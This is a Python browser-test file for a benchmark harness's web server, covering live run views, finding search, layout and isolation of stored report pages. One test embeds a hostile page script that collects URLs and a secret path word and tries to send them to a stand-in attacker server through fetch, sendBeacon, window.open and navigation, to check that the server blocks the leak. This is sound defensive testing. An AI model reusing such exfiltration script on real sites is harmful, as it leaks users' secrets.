"""What `serve` shows in a real browser: a run while it goes on, the list that leads to it, findings searched for."""

import contextlib
import fcntl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote

import pytest

from benchmarks.browser import Pipe
from harness.controller.recorder import Recorder
from harness.history.journals.journal import JournalFile
from harness.history.run_folder import RunFolder
from harness.host.clock import SystemClock
from harness.ports.cluster import Evidence, PartitionState, Send, SendOutcome
from harness.web.server import Server
from tests.reports.pages_in_a_browser import Opened
from tests.reports.stories.unclean_story import loss_run
from tests.waiting import until

pytestmark = pytest.mark.browser


class Going:
    """A run in progress, as its harness writes it: its folder, its lock held, journals that grow."""

    def __init__(self, runs: Path) -> None:
        self.clock = SystemClock()
        self.folder = RunFolder.create(runs, scenario="going", clock=self.clock, seed=1, stamp="20261123-000000")
        self.lock = (self.folder.path / "lock").open("w")
        fcntl.flock(self.lock, fcntl.LOCK_EX)
        self.recorder = Recorder(folder=self.folder.history, clock=self.clock)
        self.journal = JournalFile(self.folder.history / "worker-1.jsonl", worker="1", clock=self.clock)
        self.journal.begin_process(1, client="kafka-python", acks="all")

    def send(self, count: int) -> None:
        sends = [Send(topic="orders", partition=0, value=str(number).encode()) for number in range(count)]
        operation = self.journal.invoke("send", sends)
        now = self.clock.monotonic_ns()
        outcome = SendOutcome(status="ok", offset=1, error=None, begin_ns=now, end_ns=now)
        self.journal.complete_send(operation, [outcome] * count)

    def phase(self, name: str) -> None:
        self.folder.update(phases=[{"name": name, "t": self.clock.monotonic_ns()}])

    def led(self, *, leader: int, epoch: int, isr: tuple[int, ...]) -> None:
        self.recorder.partition_state(
            PartitionState(
                topic="orders",
                partition=0,
                t_ns=self.clock.monotonic_ns(),
                leader=leader,
                leader_epoch=epoch,
                isr=isr,
                replicas=(1, 2, 3),
                observer=1,
                uncertainty_ns=0,
                exact=False,
                partition_epoch=None,
                controller_epoch=None,
            )
        )


@pytest.fixture
def going(tmp_path: Path) -> Iterator[Going]:
    run = Going(tmp_path)
    yield run
    run.recorder.close()
    run.lock.close()


@contextlib.contextmanager
def serving(server: ThreadingHTTPServer) -> Iterator[None]:
    thread = threading.Thread(target=lambda: server.serve_forever(poll_interval=0.01))
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def home(tmp_path: Path, going: Going) -> Iterator[str]:
    """The address of the list: one run in progress, one judged."""
    loss_run(tmp_path)
    server = Server(tmp_path, address="127.0.0.1", port=0)
    with serving(server):
        yield server.url


def text(opened: Opened, selector: str) -> str:
    return str(opened.ask(f"document.querySelector('{selector}').innerText"))


def partitions(opened: Opened) -> list[str]:
    cells = "[...document.querySelectorAll('#partitions td')].map((cell) => cell.innerText)"
    return [str(cell) for cell in opened.ask(cells)]


def test_a_run_in_progress_is_seen_live_without_a_reload(going: Going, home: str, pipe: Pipe) -> None:
    going.phase("prepare")
    opened = Opened(pipe, home)
    opened.follow("[...document.querySelectorAll('td a')].find((link) => link.innerText === 'watch').click()")
    until(lambda: text(opened, "#phase") == "prepare", "the first phase is shown")
    assert text(opened, "#faults").startswith("None.")

    going.phase("act")
    going.send(50)
    kill = going.recorder.fault_asked(kind="kill", label="kill of broker 1", nodes=[1])
    going.recorder.fault_begun(kill, Evidence(sentence="gone", t_ns=going.clock.monotonic_ns()))
    going.led(leader=2, epoch=4, isr=(2, 3))
    until(lambda: text(opened, "#phase") == "act", "the next phase is shown")
    until(lambda: text(opened, "#total") == "50", "what was acknowledged is counted")
    until(lambda: partitions(opened) == ["orders-0", "2", "4", "2, 3", "1, 2, 3"], "leader, epoch and ISR are shown")
    assert "kill of broker 1, for " in text(opened, "#faults")
    assert opened.ask("document.querySelectorAll('#partitions td.low').length") == 1

    def sent_on() -> bool:
        going.send(10)
        return float(text(opened, "#acks")) > 0

    until(sent_on, "records a second are shown")
    going.recorder.fault_ended(kill, Evidence(sentence="back", t_ns=going.clock.monotonic_ns()))
    going.led(leader=2, epoch=4, isr=(1, 2, 3))
    until(lambda: text(opened, "#faults").startswith("None. 1 over"), "the fault is over")
    until(lambda: opened.ask("document.querySelectorAll('#partitions td.low').length") == 0, "the ISR is whole")
    going.lock.close()
    until(lambda: "its harness is gone" in text(opened, "#said"), "that nobody goes on with it is said")


def test_a_finding_is_searched_for_from_the_list(home: str, pipe: Pipe) -> None:
    opened = Opened(pipe, home)
    assert text(opened, "h2:last-of-type")
    opened.follow(
        "const form = document.querySelector('form'); form.finding.value = 'lost-write'; form.requestSubmit();"
    )
    found = opened.ask("[...document.querySelectorAll('tbody tr')].map((row) => row.cells[2].innerText)")
    assert found
    assert all("lost-write" in each for each in found)
    fingerprint = text(opened, "td.m a")
    opened.follow("document.querySelector('td.m a').click()")
    assert opened.ask("document.querySelector('form').finding.value") == fingerprint
    assert opened.ask("document.querySelectorAll('tbody tr').length") == 1
    opened.follow(
        "const form = document.querySelector('form'); form.finding.value = 'no-such-thing'; form.requestSubmit();"
    )
    assert text(opened, "section h2") == "0 in 2 runs"


_OUT_OF_SIGHT = """[...document.querySelectorAll("a:not(.skip), button, input, td, th")]
  .filter((one) => one.checkVisibility() && one.getBoundingClientRect().right > innerWidth)
  .map((one) => one.outerHTML)"""


@pytest.mark.parametrize("width", [390, 1400])
def test_nothing_of_the_list_of_a_search_and_of_a_run_in_progress_is_out_of_sight(
    going: Going, home: str, pipe: Pipe, width: int
) -> None:
    going.led(leader=2, epoch=4, isr=(2, 3))
    opened = Opened(pipe, home, width=width)
    assert opened.ask("document.querySelectorAll('td a').length") == 2
    assert opened.ask(_OUT_OF_SIGHT) == []
    opened = Opened(pipe, f"{home}search?finding=lost-write", width=width)
    assert opened.ask("document.querySelectorAll('td.m a').length")
    assert opened.ask(_OUT_OF_SIGHT) == []
    opened = Opened(pipe, f"{home}live/{going.folder.path.name}", width=width)
    until(lambda: partitions(opened) == ["orders-0", "2", "4", "2, 3", "1, 2, 3"], "leader, epoch and ISR are shown")
    assert opened.ask(_OUT_OF_SIGHT) == []


class Elsewhere:
    """A site of whoever wrote a hostile page: it keeps the paths that it is asked for."""

    def __init__(self) -> None:
        asked = self.asked = list[str]()

        class Keeps(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(unquote(self.path))
                self.send_response(200)
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # http.server's name
                """Not into the tests' output."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Keeps)
        self.url = f"http://127.0.0.1:{self.server.server_port}/"


_GIVES_AWAY = """<!doctype html><p id="done"></p><a href="../{other}/report.html">another run</a><script>
const all = [location.href, document.baseURI, document.referrer, document.URL, name];
for (const told of [() => top.location.href, () => parent.document.URL, () => opener.location.href]) {{
  try {{ all.push(told()); }} catch (error) {{ all.push(error.name); }}
}}
const to = "{elsewhere}?" + encodeURIComponent(all.join(" "));
for (const way of [
  () => window.open(to), () => window.open(to, "_top"), () => {{ top.location = to; }},
  () => {{ parent.location.replace(to); }}, () => fetch(to), () => navigator.sendBeacon(to),
  () => {{ new Image().src = to; }},
  () => parent.postMessage({{ open: to }}, "*"), () => parent.postMessage({{ open: "../../../" + to }}, "*"),
  () => {{ location = to; }},
]) {{
  try {{ way(); }} catch (error) {{ /* refused */ }}
}}
</script>"""


@pytest.mark.parametrize("alone", [False, True])
def test_a_hostile_page_never_learns_the_secret_word_and_navigates_nothing_but_itself(
    alone: bool, tmp_path: Path, pipe: Pipe
) -> None:
    elsewhere, run = Elsewhere(), loss_run(tmp_path)
    (run / "report.html").write_text(_GIVES_AWAY.format(elsewhere=elsewhere.url, other="x"))
    server = Server(tmp_path, address="127.0.0.1", port=0)
    place = (run.name, "report.html")
    path = "/".join(place)
    with serving(elsewhere.server), serving(server):
        if alone:  # its own address, as somebody may have copied it
            with contextlib.suppress(RuntimeError):  # it leaves while the browser is asked whether it has loaded
                Opened(pipe, server.url.replace(server.words.secret, server.words.of_page(place)) + path)
            until(lambda: elsewhere.asked, "alone it can give its own address away")
        else:
            opened = Opened(pipe, f"{server.url}files/{path}")
            assert opened.ask("location.pathname") == f"/{server.words.secret}/files/{path}"
            until(lambda: opened.ask("frames.length") == 1, "the page is in its frame")
            assert opened.ask("location.href").startswith(server.url)
            assert elsewhere.asked == []
        assert not [asked for asked in elsewhere.asked if server.words.secret in asked]


def test_a_link_between_stored_pages_still_leads_there(tmp_path: Path, pipe: Pipe) -> None:
    first, second = loss_run(tmp_path / "a"), tmp_path / "a" / "other run"
    second.mkdir()
    (second / "report.html").write_text("<p>the other one</p>")
    link = '<a href="../other%20run/report.html#here" style="position:fixed;inset:0">another run</a>'
    (first / "report.html").write_text(link)
    server = Server(tmp_path / "a", address="127.0.0.1", port=0)
    with serving(server):
        opened = Opened(pipe, f"{server.url}files/{first.name}/report.html")
        there = f"/{server.words.secret}/files/other%20run/report.html"

        def is_there() -> bool:
            with contextlib.suppress(RuntimeError):  # it goes there while it is asked
                if opened.ask("location.pathname") == there:
                    return True
                opened.click(300, 300)  # which hits nothing until the frame is drawn
            return False

        until(is_there, "the other page is opened, in a frame of its own")
        until(
            lambda: opened.ask("location.hash + document.querySelector('#stored')?.src.split('#')[1]") == "#herehere",
            "the place in the page is kept",
        )
